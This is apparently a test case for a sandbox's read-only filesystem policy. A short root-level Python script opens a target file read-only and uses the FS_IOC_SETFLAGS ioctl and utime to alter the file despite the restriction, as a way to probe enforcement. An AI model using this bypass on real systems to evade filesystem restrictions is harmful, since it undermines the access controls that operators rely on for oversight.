# policy: --fs-readonly
# evidence: changed {victim}
# args: {victim}
# needs: root

# FS_IOC_FSSETXATTR and FS_IOC_SETFLAGS change a file through a read-only descriptor.
import fcntl
import os
import struct
import sys

fd = os.open(sys.argv[1], os.O_RDONLY)
fcntl.ioctl(fd, 0x40086602, struct.pack("l", 0x10))
try:
    os.utime(fd)
except PermissionError:
    fcntl.ioctl(fd, 0x40086602, struct.pack("l", 0))
    os.utime(fd)
